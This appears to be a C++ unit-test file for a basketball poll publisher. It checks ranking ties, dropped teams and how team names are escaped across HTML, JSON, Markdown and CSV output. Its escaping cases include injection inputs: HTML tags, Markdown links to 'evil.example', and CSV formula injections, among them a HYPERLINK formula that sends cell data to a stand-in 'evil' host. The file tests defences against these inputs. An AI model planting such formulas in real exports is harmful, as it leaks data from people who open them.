// The published week: shared ranks, last week, the others and the dropped, and every format's
// escaping; golden files of the examples' season.
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>
#include <string>
#include <vector>

#include "csv/csv_reader.h"
#include "golden_forms.h"
#include "make_week.h"
#include "pollfile/read_season.h"
#include "publish/formats.h"
#include "publish/season.h"
#include "strict_json.h"
#include "temp_dir.h"
#include "test_paths.h"

namespace hoops {

namespace {

// The published week in a line each: "rank name last change", then the others and dropped.
std::string summary(const PublishedWeek& published) {
  std::string text;
  for (const PublishedTeam* team : published.ranked()) {
    text += std::to_string(team->rank) + " " + std::string(team->name) + " " +
            (team->lastWeekRank ? std::to_string(*team->lastWeekRank) : "-") + " ";
    text += team->ranked
                ? (team->lastWeekRank ? std::to_string(*team->lastWeekRank - team->rank) : "NEW")
                : "";
    text += "\n";
  }
  for (const PublishedTeam* team : published.others()) {
    text += "others " + std::string(team->name) + "\n";
  }
  for (const auto& team : published.dropped) {
    text += "dropped " + std::string(team.name) + " " + std::to_string(team.lastWeekRank) + "\n";
  }
  return text;
}

TEST(PublishTest, SharedRanksLastWeekOthersAndDropped) {
  const auto before = [] {
    return week("March 2 2025", 1, {{"A", 90}, {"B", 80}, {"C", 80}, {"D", 70}, {"E", 60}});
  };
  const auto season = [](auto... weeks) {
    std::vector<Week> all;
    (all.push_back(std::move(weeks)), ...);
    return all;
  };
  const struct {
    const char* what;
    std::vector<Week> weeks;
    int64_t top;
    std::string published;
  } cases[] = {
      {"a tie shares its rank and skips the next; within it, by name",
       season(week("March 9 2025", 8, {{"Z", 50}, {"Y", 50}, {"X", 40}})), 3,
       "1 Y - NEW\n1 Z - NEW\n3 X - NEW\n"},
      {"a tie at the last place shows every tied team; below it, the others by points",
       season(
           week("March 9 2025", 8, {{"A", 9}, {"B", 5}, {"D", 5}, {"C", 5}, {"E", 4}, {"F", 4}})),
       2, "1 A - NEW\n2 B - NEW\n2 C - NEW\n2 D - NEW\nothers E\nothers F\n"},
      {"last week's ranks come shared from the week before; dropped by last week's rank",
       season(before(), week("March 9 2025", 8, {{"C", 95}, {"A", 85}, {"F", 75}, {"B", 10}})), 3,
       "1 C 2 1\n2 A 1 -1\n3 F - NEW\nothers B\ndropped B 2\n"},
      {"one week: last week is its own column",
       season(week("March 9 2025", 8, {{"A", 9}, {"B", 8}, {"C", 7}}, {2, 3, 1})), 2,
       "1 A 2 1\n2 B - NEW\nothers C\ndropped C 1\n"},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(summary(publishWeek(c.weeks, c.top, nullptr)), c.published) << c.what;
  }
}

// Each escaping rule on a name of its own, so that no rule hides behind another: what the form
// must show of the name (and, where given, must not).
TEST(PublishTest, EveryFormatEscapesEachKindOfCharacter) {
  const struct {
    Format format;
    std::string name;
    std::string shown;
    std::string never;
  } cases[] = {
      {Format::kHtml, "A&M", "A&amp;M", "A&M"},
      {Format::kHtml, "<b>", "&lt;b&gt;", "<b>"},
      {Format::kHtml, "\"q\"", "&quot;q&quot;", ""},
      {Format::kHtml, "Saint Mary's", "Saint Mary&#39;s", "Mary's"},
      {Format::kHtml, "Tab\x01", "Tab ", "\x01"},
      {Format::kJson, "\"q\"", "\"\\\"q\\\"\"", ""},
      {Format::kJson, "back\\slash", "\"back\\\\slash\"", ""},
      {Format::kJson, "Bell\x07", "\"Bell\\u0007\"", "\x07"},
      {Format::kJson, "Bad \xFF", "\"Bad \xEF\xBF\xBD\"", "\xFF"},
      {Format::kJson, "Half \xED\xA0\x80", "\"Half \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\"", ""},
      {Format::kMarkdown, "a|b", "a\\|b", ""},
      {Format::kMarkdown, "*x*", "\\*x\\*", ""},
      {Format::kMarkdown, "`c`", "\\`c\\`", ""},
      {Format::kMarkdown, "_u_", "\\_u\\_", ""},
      {Format::kMarkdown, "# h", "\\# h", ""},
      {Format::kMarkdown, "~~s~~", "\\~\\~s\\~\\~", ""},
      {Format::kMarkdown, "[l](x)", "\\[l\\](x)", ""},
      {Format::kMarkdown, "<b>", "\\<b\\>", ""},
      {Format::kMarkdown, "a\\b", "a\\\\b", ""},
      {Format::kMarkdown, "&lt;b&gt;", "&amp;lt;b&amp;gt;", "|&lt;"},
      {Format::kMarkdown, "www.evil.example", "www\\.evil.example", "www.evil"},
      {Format::kMarkdown, "https://evil.example", "https\\:\\/\\/evil.example", "https:"},
      {Format::kMarkdown, "r/evil", "r\\/evil", "r/evil"},
      {Format::kMarkdown, "me@evil.example", "me&#8288;@evil.example", "me@"},
      {Format::kCsv, "Texas A&M, CC", "\"Texas A&M, CC\"", ""},
      {Format::kCsv, "\"q\"", "\"\"\"q\"\"\"", ""},
      {Format::kCsv, " Blank", "\" Blank\"", ""},
      {Format::kCsv, "=1+1", "'=1+1", ",=1+1"},
      {Format::kCsv, "+3 Team", "'+3 Team", ",+3"},
      {Format::kCsv, "-Team", "'-Team", ",-Team"},
      {Format::kCsv, "@SUM(A1)", "'@SUM(A1)", ",@SUM"},
      {Format::kCsv, "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
       "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"", ""},
      {Format::kText, "<b>|*x*", "<b>|*x*", ""},
  };
  for (const auto& c : cases) {
    std::vector<Week> weeks;
    weeks.push_back(week("March 9 2025", 8, {{c.name, 10}}));
    const PublishedWeek published = publishWeek(weeks, 1, nullptr);
    std::ostringstream out;
    std::vector<std::string> notes;
    writePublished(out, published, c.format, notes);
    EXPECT_NE(out.str().find(c.shown), std::string::npos) << c.name << "\n" << out.str();
    if (!c.never.empty()) {
      EXPECT_EQ(out.str().find(c.never), std::string::npos) << c.name;
    }
    if (c.format == Format::kJson && c.name.find('\xFF') != std::string::npos) {
      EXPECT_EQ(notes, std::vector<std::string>{"the name 'Bad \xFF' is not UTF-8; the JSON has "
                                                "U+FFFD for each byte that is not"});
    }
  }
}

TEST(PublishTest, TheTitleNamesThePollInEveryForm) {
  std::vector<Week> weeks;
  weeks.push_back(week("March 9 2025", 8, {{"A", 10}}));
  PublishedWeek published = publishWeek(weeks, 1, nullptr);
  published.title = "Fan <Poll>";
  const struct {
    Format format;
    std::string shown;
  } cases[] = {
      {Format::kText, "Fan <Poll>, March 9 2025\n"},
      {Format::kMarkdown, "**Fan \\<Poll\\>, March 9 2025**\n"},
      {Format::kHtml, "<title>Fan &lt;Poll&gt;, March 9 2025</title>"},
      {Format::kJson, "{\n  \"title\": \"Fan <Poll>\",\n  \"date\": \"2025-03-09\","},
  };
  for (const auto& c : cases) {
    std::ostringstream out;
    std::vector<std::string> notes;
    writePublished(out, published, c.format, notes);
    EXPECT_NE(out.str().find(c.shown), std::string::npos) << out.str();
  }
}

// A real week as the Associated Press published it (January 4 2021, with December 28 2020
// before it, typed from the published figures): the same shared ranks and last week's ranks.
TEST(PublishTest, ARealWeekAsItWasPublished) {
  const std::string data = HOOPS_PUBLISH_DATA;
  std::vector<Week> weeks;
  std::vector<Problem> problems;
  ASSERT_EQ(readSeason({data + "/ap-2021-01-04.txt", data + "/ap-2020-12-28.txt"}, weeks, problems),
            LoadOutcome::kLoaded);
  const PublishedWeek published = publishWeek(weeks, 25, nullptr);
  std::string ours;
  for (const PublishedTeam* team : published.ranked()) {
    ours += std::to_string(team->rank) + "\t" + std::string(team->name) + "\t" +
            std::to_string(team->points) + "\t" +
            (team->lastWeekRank ? std::to_string(*team->lastWeekRank) : "-") + "\n";
  }
  // Within a shared rank the published order is the voters'; ours is by name.
  std::string theirs = readFile(data + "/ap-2021-01-04-published.txt");
  const auto sorted = [](const std::string& text) {
    std::vector<std::string> lines;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);) lines.push_back(line);
    std::sort(lines.begin(), lines.end());
    return lines;
  };
  EXPECT_EQ(sorted(ours), sorted(theirs));
  std::ostringstream text;
  std::vector<std::string> notes;
  writePublished(text, published, Format::kText, notes);
  EXPECT_NE(text.str().find("\nDropped from rankings: No. 19 Northwestern, No. 25 Ohio St.\n"),
            std::string::npos);
}

TEST(PublishTest, TheExamplesSeasonInEveryFormat) {
  const std::string examples = HOOPS_EXAMPLES;
  std::vector<Week> weeks;
  std::vector<Problem> problems;
  // In any order: the dates order them.
  ASSERT_EQ(readSeason({examples + "/week13.txt", examples + "/week10.txt",
                        examples + "/week12.txt", examples + "/week11.txt"},
                       weeks, problems),
            LoadOutcome::kLoaded);
  const PublishedWeek published = publishWeek(weeks, 25, nullptr);
  expectGoldenForms("week13", [&](std::ostream& out, Format format, auto& notes) {
    writePublished(out, published, format, notes);
  });
}

}  // namespace

namespace {

// Every byte in a name: the JSON stays valid to a strict parser, and the CSV reads back field
// by field as the name it was given.
TEST(PublishTest, EveryByteInANameKeepsTheJsonValidAndTheCsvReadable) {
  // The checker itself refuses what a strict parser refuses.
  for (const char* invalid :
       {"\"a\x01\"", "\"\xFF\"", "\"\xED\xA0\x80\"", "{\"a\": 1,}", "[\"\\x\"]", "01"}) {
    EXPECT_FALSE(StrictJson::valid(invalid)) << invalid;
  }
  for (int byte = 0; byte < 256; ++byte) {
    const std::string name = std::string("A") + static_cast<char>(byte) + "Z";
    std::vector<Week> weeks;
    weeks.push_back(week("March 9 2025", 8, {{name, 10}}));
    const PublishedWeek published = publishWeek(weeks, 1, nullptr);
    std::ostringstream json, csv;
    std::vector<std::string> notes;
    writePublished(json, published, Format::kJson, notes);
    writePublished(csv, published, Format::kCsv, notes);
    EXPECT_TRUE(StrictJson::valid(json.str())) << byte << "\n" << json.str();
    std::istringstream in(csv.str());
    CsvReader reader(in);
    std::vector<std::string_view> fields;
    ASSERT_TRUE(reader.next(fields));
    ASSERT_TRUE(reader.next(fields)) << byte;
    ASSERT_EQ(fields.size(), 8U) << byte;
    EXPECT_EQ(fields[1], name) << byte;
  }
}

}  // namespace

}  // namespace hoops
